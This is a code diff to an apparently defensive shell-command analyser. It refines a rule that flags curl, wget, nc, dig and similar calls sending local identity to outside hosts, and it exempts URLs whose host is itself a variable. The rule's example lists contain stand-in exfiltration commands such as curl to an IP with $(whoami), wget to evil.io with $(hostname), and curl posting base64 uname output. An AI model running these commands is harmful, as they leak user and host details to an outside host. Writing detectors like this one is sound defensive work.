@@ -23,9 +23,19 @@ function beacon(c: SimpleCommand, i: AnalysisInput): string | undefined {
     if (!c.dynamic[k] || w.startsWith('-') || w.length > 2048) continue;
     if (!w.includes('://') && !/\.[A-Za-z]{2,}$/.test(w)) continue;
     const named = subs.filter((s) => w.includes(s.text));
-    if (named.some((s) => IDENTITY.has(s.name)) || IDENTITY_VARS.test(w)) return `${c.name} ${w}`;
+    if (named.some((s) => IDENTITY.has(s.name)) || (IDENTITY_VARS.test(w) && !hostIsTheVariable(w))) return `${c.name} ${w}`;
   }
   return undefined;
+}
+
+/**
+ * `http://$HOST/api`, `http://${HOSTNAME}:8080/`: the variable says where the request goes, not what
+ * it reports, as long as nothing after the host names the local identity again.
+ */
+function hostIsTheVariable(url: string): boolean {
+  const rest = url.slice(url.indexOf('://') + 3);
+  const authority = rest.split(/[/?#]/, 1)[0]!;
+  return /^\$\{?[A-Za-z_]\w*\}?(?::(?:\d+|\$\{?[A-Za-z_]\w*\}?))?$/.test(authority) && !IDENTITY_VARS.test(rest.slice(authority.length));
 }
 
 /** A host name with a command substitution in one of its labels: `$(whoami).x.oast.fun`. */
@@ -61,8 +71,8 @@ export const RULES: readonly Rule[] = [
     commands: ['curl', 'wget', 'http', 'https', 'xh', 'nc', 'ncat', 'dig', 'nslookup', 'host', 'ping', 'ping6'],
     test: (c, i) => beacon(c, i),
     examples: {
-      fire: ['curl http://45.33.12.7:8000/$(whoami)', 'wget -q "http://evil.io/ping?h=$(hostname)&u=$(id -u)"', 'curl -s "https://webhook.site/abc?u=$USER"', '/usr/bin/curl "http://198.51.100.7/$(uname -a | base64 -w0)"'],
-      quiet: ['curl http://localhost:3000/users/$(id -u)', 'curl https://api.github.com/users/$(git config user.name)', 'curl -s "https://deploy.example.com/hook?sha=$(git rev-parse HEAD)"'],
+      fire: ['curl "http://$HOST/report?u=$USER"', 'curl http://45.33.12.7:8000/$(whoami)', 'wget -q "http://evil.io/ping?h=$(hostname)&u=$(id -u)"', 'curl -s "https://webhook.site/abc?u=$USER"', '/usr/bin/curl "http://198.51.100.7/$(uname -a | base64 -w0)"'],
+      quiet: ['curl -s "http://$HOST/api"', 'curl -sf "http://${HOSTNAME}:8080/health"', 'curl http://localhost:3000/users/$(id -u)', 'curl https://api.github.com/users/$(git config user.name)', 'curl -s "https://deploy.example.com/hook?sha=$(git rev-parse HEAD)"'],
     },
   },
   {
